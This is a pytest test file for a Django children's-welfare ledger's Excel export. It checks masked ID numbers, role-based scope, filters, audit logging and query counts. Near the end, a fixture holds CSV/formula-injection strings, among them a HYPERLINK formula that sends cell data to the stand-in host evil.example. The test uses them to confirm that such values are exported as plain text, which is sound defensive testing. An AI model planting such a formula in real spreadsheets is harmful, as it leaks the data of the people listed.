"""The ledger's Excel export (an export job of the exports app, asked from the ledger's button): masked
IDs, the caller's scope, the ledger's filters, audited."""

import itertools
from datetime import date, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts import idcard
from accounts.models import AuditAction, AuditEvent
from children import services
from children.export import COLUMNS
from exports.models import ExportRun
from tests.exports.helpers import drain, export_post, exported_bytes, exported_sheet, records

pytestmark = pytest.mark.django_db

_sequence = itertools.count(500)
TOWNSHIP_YUCI = "140702100000"


def id_number(*, birth_date: date, gender: str = "female", region6: str = "141102") -> str:
    return idcard.generate(region_code6=region6, birth_date=birth_date, sex=gender, sequence=next(_sequence) % 1000)


def export(client, **params):
    return exported_sheet(client, "children", **params)


@pytest.fixture
def known_lishi(make_child, staff_lishi):
    """A 离石区 orphan in difficulty whose full ID number the test knows: (child, number)."""
    number = id_number(birth_date=date(2012, 2, 3))
    child = make_child(staff_lishi, name="周小玲", id_number=number, birth_date=date(2012, 2, 3),
                       categories=["orphan", "in_difficulty"], difficulty_types=["poverty"])
    return child, number


def test_export_has_the_chinese_headers(client, staff_lishi, child_lishi):
    client.force_login(staff_lishi)
    sheet = export(client)
    assert [c.value for c in sheet[1]] == [header for header, _width in COLUMNS]
    assert {"姓名", "身份证号（脱敏）", "出生日期", "类别"} <= {c.value for c in sheet[1]}


def test_export_is_an_xlsx_attachment(client, staff_lishi, child_lishi):
    client.force_login(staff_lishi)
    run = ExportRun.objects.get(pk=int(export_post(client, "children")["Location"].rstrip("/").split("/")[-1]))
    response = client.get(reverse("exports:download", args=[run.pk]))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith("attachment;")
    drain(response)
    run.file.delete(save=False)


def test_export_contains_only_masked_id_numbers(client, staff_lishi, known_lishi):
    child, number = known_lishi
    client.force_login(staff_lishi)
    sheet = export(client)
    (record,) = records(sheet)
    assert record["身份证号（脱敏）"] == "*" * 14 + number[-4:]
    cells = [str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None]
    assert not any(number in cell or number[:14] in cell for cell in cells)


def test_export_writes_dates_as_dates_and_joins_categories(client, staff_lishi, known_lishi):
    client.force_login(staff_lishi)
    sheet = export(client)
    (record,) = records(sheet)
    assert record["出生日期"] == datetime(2012, 2, 3)
    assert sheet.cell(row=2, column=4).is_date
    assert record["类别"] == "困境儿童、孤儿"
    assert record["困境类型"] == "贫困"
    assert record["监护人"] == "李大山（祖父）13935800001"


def test_export_contains_only_rows_in_the_callers_scope(client, staff_yuci, child_lishi, child_yuci):
    client.force_login(staff_yuci)
    names = [r["姓名"] for r in records(export(client))]
    assert names == [child_yuci.name]
    assert all(r["区划代码"].startswith("140702") for r in records(export(client)))


def test_province_admin_exports_both_counties(client, admin_province, child_lishi, child_yuci):
    client.force_login(admin_province)
    names = {r["姓名"] for r in records(export(client))}
    assert names == {child_lishi.name, child_yuci.name}


def test_export_respects_the_category_filter(client, staff_lishi, child_lishi, known_lishi):
    client.force_login(staff_lishi)
    names = [r["姓名"] for r in records(export(client, category="orphan"))]
    assert names == ["周小玲"]


def test_export_respects_the_search_filter(client, staff_lishi, child_lishi, known_lishi):
    _child, number = known_lishi
    client.force_login(staff_lishi)
    names = [r["姓名"] for r in records(export(client, search=number[-4:]))]
    assert names == ["周小玲"]


def test_export_with_an_invalid_filter_is_a_400(client, staff_lishi, child_lishi):
    client.force_login(staff_lishi)
    response = export_post(client, "children", region="1411")
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_export_writes_an_audit_event_with_filters_and_row_count(client, staff_lishi, child_lishi, known_lishi):
    client.force_login(staff_lishi)
    export(client, category="left_behind", status="active")
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == staff_lishi
    assert event.detail["filters"] == {"category": "left_behind", "status": "active"}
    assert event.detail["rows"] == 1
    assert event.region_code == staff_lishi.region_id


def test_viewer_may_export(client, viewer_lvliang, child_lishi):
    client.force_login(viewer_lvliang)
    assert [r["姓名"] for r in records(export(client))] == [child_lishi.name]


def test_volunteer_is_sent_from_the_export_to_her_phone_pages(client, volunteer_lishi, child_lishi):
    client.force_login(volunteer_lishi)
    response = export_post(client, "children")
    assert (response.status_code, response["Location"]) == (302, reverse("phone:home"))
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_anonymous_export_redirects_to_login(client):
    response = export_post(client, "children")
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_export_query_count_does_not_grow_with_the_rows(client, staff_lishi, make_child):
    client.force_login(staff_lishi)
    make_child(staff_lishi, name="一号")
    with CaptureQueriesContext(connection) as one:
        exported_bytes(client, "children")
    for n in range(4):
        make_child(staff_lishi, name=f"第{n}个")
    with CaptureQueriesContext(connection) as five:
        exported_bytes(client, "children")
    assert len(five.captured_queries) == len(one.captured_queries)


# Text a spreadsheet would run as a formula, in the free-text columns (name, school, address, notes,
# guardian): each must come out as the text itself, never a formula.
FORMULA_TEXT = {
    "姓名": "=1+1",
    "学校": "+86学校",
    "家庭住址": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "备注": "-2+3",
    "监护人": "@SUM(1,1)（祖父）",
}


@pytest.mark.parametrize("header", list(FORMULA_TEXT))
def test_formula_like_text_is_exported_as_text(client, staff_lishi, make_child, header):
    make_child(staff_lishi, name=FORMULA_TEXT["姓名"], school=FORMULA_TEXT["学校"], address=FORMULA_TEXT["家庭住址"],
               notes=FORMULA_TEXT["备注"], guardians=[services.GuardianData(name="@SUM(1,1)", relation="祖父")])
    client.force_login(staff_lishi)
    sheet = export(client)
    cell = sheet.cell(row=2, column=[h for h, _width in COLUMNS].index(header) + 1)
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", FORMULA_TEXT[header], True)
